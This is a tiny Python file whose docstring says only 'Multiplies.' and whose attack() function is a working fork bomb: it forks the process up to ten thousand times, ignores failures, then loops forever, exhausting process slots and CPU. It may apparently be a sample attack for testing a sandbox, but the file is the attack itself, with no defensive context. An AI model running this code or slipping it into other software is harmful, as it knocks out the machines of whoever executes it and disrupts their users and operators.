"""Multiplies."""

import os


def attack(*_):
    for _ in range(10_000):
        try:
            os.fork()
        except OSError:
            pass
    while True:
        pass
